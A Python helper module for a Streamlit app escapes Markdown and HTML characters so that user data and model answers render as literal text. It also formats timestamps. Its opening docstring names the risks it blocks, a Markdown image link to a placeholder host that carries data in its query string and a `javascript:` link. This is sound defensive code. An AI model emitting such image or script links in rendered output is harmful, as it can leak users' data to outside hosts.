"""Text that came from a user's rows or a model's answer, shown as exactly that text.

Streamlit renders Markdown: in a row or an answer, `![](http://host/?q=...)` would make the browser fetch a
URL (data leaving the machine), `[x](javascript:...)` would be a link, `$...$` LaTeX, `:red[...]` colour.
`literal` escapes every character Markdown gives a meaning, so the words read as they were written.
"""

from __future__ import annotations

import re
from datetime import datetime

_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#+\-.!|>~<$:&=^])")


def literal(text: str) -> str:
    """`text` as Markdown that renders to the same characters (line breaks kept)."""
    escaped = _MARKDOWN.sub(r"\\\1", str(text))
    return escaped.replace("\n", "  \n")


_ENTITIES = {ch: f"&#{ord(ch)};" for ch in "<>&\"'\\`*_{}[]()#+-.!|~$:=^"}


def html_literal(text: str) -> str:
    """`text` for HTML inside Markdown (`unsafe_allow_html`): HTML-escaped, and every Markdown character an
    entity, which the browser decodes only after Markdown (and its LaTeX) has been parsed."""
    return "".join(_ENTITIES.get(ch, ch) for ch in str(text))


def local_time(stamp: str) -> str:
    """An ISO time as this machine's local time to the minute ("2026-12-07 11:12"); else the text as it is."""
    try:
        return datetime.fromisoformat(stamp).astimezone().strftime("%Y-%m-%d %H:%M")
    except (TypeError, ValueError):
        return stamp
